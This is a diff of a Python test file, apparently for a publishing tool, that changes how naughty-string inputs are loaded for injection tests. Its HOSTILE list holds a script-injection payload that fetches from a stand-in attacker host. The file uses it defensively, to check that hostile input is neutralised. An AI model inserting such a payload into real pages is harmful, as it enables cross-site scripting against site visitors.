@@ -10,9 +10,10 @@ from xml.etree import ElementTree
 from xml.etree.ElementTree import Element
 
 import html5lib
-import orjson
 import pytest
 
+from tests.examples import some
+from tests.naughty import naughty
 from tests.publishing.editions import (
     HTML,
     PAGES,
@@ -25,7 +26,6 @@ from tests.publishing.editions import (
     published,
 )
 from tests.rooms import event
-from tests.shared import shared
 
 HOSTILE = [
     "<script>fetch('https://evil.example')</script>",
@@ -167,11 +167,9 @@ def test_what_was_recorded_can_still_be_read(out: Path) -> None:
         assert text in headlines
 
 
-@pytest.mark.parametrize("chunk", range(4))
+@pytest.mark.parametrize("chunk", some(range(4)))
 def test_naughty_strings_come_to_nothing(tmp_path: Path, chunk: int) -> None:
-    strings = [
-        each for each in orjson.loads((shared("blns") / "blns.json").read_bytes()) if each.strip()
-    ]
+    strings = [each for each in naughty() if each.strip()]
     records = [
         each for number, text in enumerate(strings[chunk::4]) for each in hostile(number, text)
     ]
